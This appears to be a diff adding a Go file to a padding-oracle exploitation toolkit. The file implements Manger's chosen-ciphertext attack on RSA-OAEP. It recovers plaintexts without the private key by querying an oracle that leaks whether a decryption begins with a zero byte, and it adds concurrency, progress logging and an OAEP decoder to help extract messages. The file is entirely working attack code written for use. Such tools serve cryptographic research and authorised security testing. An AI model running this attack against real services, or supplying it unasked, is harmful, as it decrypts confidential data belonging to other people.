@@ -0,0 +1,177 @@
+package rsaoracle
+
+import (
+	"bytes"
+	"context"
+	"crypto/rsa"
+	"crypto/subtle"
+	"fmt"
+	"hash"
+	"math/big"
+	"sync/atomic"
+)
+
+// Manger - chosen ciphertext attack against RSA-OAEP (Manger'01). Oracle tells whether decrypted message starts with zero byte.
+// OAEP decoding checks the leading byte first, and implementations often report that error differently from others
+type Manger struct {
+	PublicKey *rsa.PublicKey
+	Oracle    Oracle
+
+	// number of candidates probed at once (1 if not set)
+	Concurrency int
+
+	// if not nil, internal events are logged, same as exploit.Padre.Log
+	Log func(level int, msg string, fields ...interface{})
+
+	// if not nil, called after every step with number of oracle queries made so far,
+	// and bit length of the range where plaintext is known to be
+	Progress func(queries int, bits int)
+
+	queries int64
+}
+
+// Queries returns the number of oracle queries made so far
+func (p *Manger) Queries() int {
+	return int(atomic.LoadInt64(&p.queries))
+}
+
+// Decrypt recovers OAEP-encoded message of ciphertext (k bytes long, where k is the length of modulus), see UnpadOAEP
+func (p *Manger) Decrypt(ctx context.Context, ciphertext []byte) ([]byte, error) {
+	q := newQuerier(p.PublicKey, p.Oracle, p.Concurrency, &p.queries, p.Log)
+	n, k := q.n, q.k
+
+	c := new(big.Int).SetBytes(ciphertext)
+	if len(ciphertext) != k || c.Cmp(n) >= 0 {
+		return nil, fmt.Errorf("ciphertext must be %d bytes long and less than modulus", k)
+	}
+
+	// conforming plaintexts are less than B
+	B := new(big.Int).Lsh(bigOne, uint(8*(k-1)))
+	if new(big.Int).Lsh(B, 1).Cmp(n) >= 0 {
+		return nil, fmt.Errorf("RSA modulus is too close to 2^%d, the attack is not applicable", 8*(k-1))
+	}
+
+	// blinding
+	s0, err := q.blind(ctx, c)
+	if err != nil {
+		return nil, err
+	}
+	c0 := new(big.Int).Mod(new(big.Int).Mul(c, new(big.Int).Exp(s0, q.e, n)), n)
+
+	progress := func(step int, width *big.Int) {
+		bits := width.BitLen()
+		q.logf(logVerbose, "step done", "step", step, "bits", bits, "queries", p.Queries())
+		if p.Progress != nil {
+			p.Progress(p.Queries(), bits)
+		}
+	}
+
+	// step 1: f1 is doubled until f1*m gets over B, so that f1*m is in [B, 2B)
+	f1 := big.NewInt(2)
+	for {
+		conforming, err := q.query(ctx, c0, f1)
+		if err != nil {
+			return nil, err
+		}
+		if !conforming {
+			break
+		}
+		f1.Lsh(f1, 1)
+	}
+	half := new(big.Int).Rsh(f1, 1)
+	progress(1, B)
+
+	// step 2: f2 is increased by f1/2 until f2*m wraps around n, so that f2*m is in [n, n+B)
+	nB := new(big.Int).Add(n, B)
+	from := new(big.Int).Mul(new(big.Int).Div(nB, B), half)
+	f2, err := q.search(ctx, c0, from, half, nil)
+	if err != nil {
+		return nil, err
+	}
+
+	// step 3: range of m is halved with every query
+	mMin := ceilDiv(n, f2)
+	mMax := new(big.Int).Div(nB, f2)
+	progress(2, new(big.Int).Sub(mMax, mMin))
+
+	B2 := new(big.Int).Lsh(B, 1)
+	for step := 3; mMin.Cmp(mMax) < 0; step++ {
+		ftmp := new(big.Int).Div(B2, new(big.Int).Sub(mMax, mMin))
+		i := new(big.Int).Div(new(big.Int).Mul(ftmp, mMin), n)
+		in := new(big.Int).Mul(i, n)
+		f3 := ceilDiv(in, mMin)
+
+		conforming, err := q.query(ctx, c0, f3)
+		if err != nil {
+			return nil, err
+		}
+
+		inB := new(big.Int).Add(in, B)
+		if conforming {
+			mMax = new(big.Int).Div(inB, f3)
+		} else {
+			mMin = ceilDiv(inB, f3)
+		}
+		progress(step, new(big.Int).Sub(mMax, mMin))
+	}
+	if mMin.Cmp(mMax) != 0 {
+		return nil, ErrInconsistentOracle
+	}
+
+	m := new(big.Int).Mod(new(big.Int).Mul(mMin, new(big.Int).ModInverse(s0, n)), n)
+	return toBytes(m, k), nil
+}
+
+// UnpadOAEP decodes OAEP-encoded message: 00 || maskedSeed || maskedDB, where DB = lHash || PS || 01 || M.
+// no key is needed, only hash function and label used for encryption
+func UnpadOAEP(em []byte, h hash.Hash, label []byte) ([]byte, error) {
+	h.Reset()
+	h.Write(label)
+	lHash := h.Sum(nil)
+	hLen := len(lHash)
+
+	if len(em) < 2*hLen+2 || em[0] != 0 {
+		return nil, fmt.Errorf("not an OAEP-encoded message")
+	}
+
+	seed := append([]byte{}, em[1:1+hLen]...)
+	db := append([]byte{}, em[1+hLen:]...)
+	mgf1XOR(seed, h, db)
+	mgf1XOR(db, h, seed)
+
+	if subtle.ConstantTimeCompare(db[:hLen], lHash) != 1 {
+		return nil, fmt.Errorf("label hash does not match (wrong hash function or label)")
+	}
+
+	// padding string of zeros is followed by 01
+	rest := bytes.TrimLeft(db[hLen:], "\x00")
+	if len(rest) == 0 || rest[0] != 1 {
+		return nil, fmt.Errorf("no separator after padding string")
+	}
+	return rest[1:], nil
+}
+
+// XORs out with MGF1 mask generated from seed
+func mgf1XOR(out []byte, h hash.Hash, seed []byte) {
+	var counter [4]byte
+	var mask []byte
+	for done := 0; done < len(out); {
+		h.Reset()
+		h.Write(seed)
+		h.Write(counter[:])
+		mask = h.Sum(mask[:0])
+
+		for i := 0; i < len(mask) && done < len(out); i++ {
+			out[done] ^= mask[i]
+			done++
+		}
+
+		// big-endian increment
+		for i := 3; i >= 0; i-- {
+			counter[i]++
+			if counter[i] != 0 {
+				break
+			}
+		}
+	}
+}